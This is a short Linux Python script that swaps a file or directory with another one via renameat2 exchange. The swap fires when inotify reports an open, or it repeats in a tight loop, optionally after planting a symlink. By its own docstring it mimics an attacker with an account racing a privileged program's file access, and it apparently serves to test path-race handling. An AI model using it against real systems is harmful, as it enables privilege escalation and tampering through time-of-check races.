"""Exchanges a path and something else while somebody else looks at it, as an attacker with an account would.

    swap.py on-open PATH OTHER         once, as soon as the folder PATH is opened
    swap.py on-any DIR OTHER [PATH]    once, as soon as anything in the folder DIR is opened; exchanges DIR, or PATH
    swap.py spin PATH OTHER SECONDS    again and again, as fast as the system allows
    swap.py link TARGET PATH ...       makes PATH a symbolic link to TARGET, then does one of the above

Prints "swapped N" when it ends, N being the number of exchanges. Linux on x64 and arm64.
"""
import ctypes, os, platform, struct, sys, time

libc = ctypes.CDLL(None, use_errno=True)
RENAMEAT2 = {'x86_64': 316, 'aarch64': 276}[platform.machine()]
AT_FDCWD, RENAME_EXCHANGE, IN_OPEN = -100, 2, 0x20
arguments = sys.argv[1:]
if arguments[0] == 'link':
    os.symlink(arguments[1], arguments[2])
    arguments = arguments[3:]


def exchange(one, other):
    done = libc.syscall(RENAMEAT2, AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE)
    return 1 if done == 0 else 0


command, path, other, *rest = arguments
swapped = 0
if command != 'spin':
    events = libc.inotify_init()
    libc.inotify_add_watch(events, path.encode(), IN_OPEN)
    print('ready', flush=True)
    while swapped == 0:
        block = os.read(events, 65536)
        while block:
            _, _, _, length = struct.unpack_from('iIII', block)
            name = block[16:16 + length].rstrip(b'\0').decode()
            block = block[16 + length:]
            if (name != '') == (command == 'on-any'):
                swapped = exchange(rest[0] if rest else path, other)
                break
else:
    print('ready', flush=True)
    end = time.monotonic() + float(rest[0])
    while time.monotonic() < end:
        for _ in range(100):
            swapped += exchange(path, other)
print('swapped', swapped, flush=True)
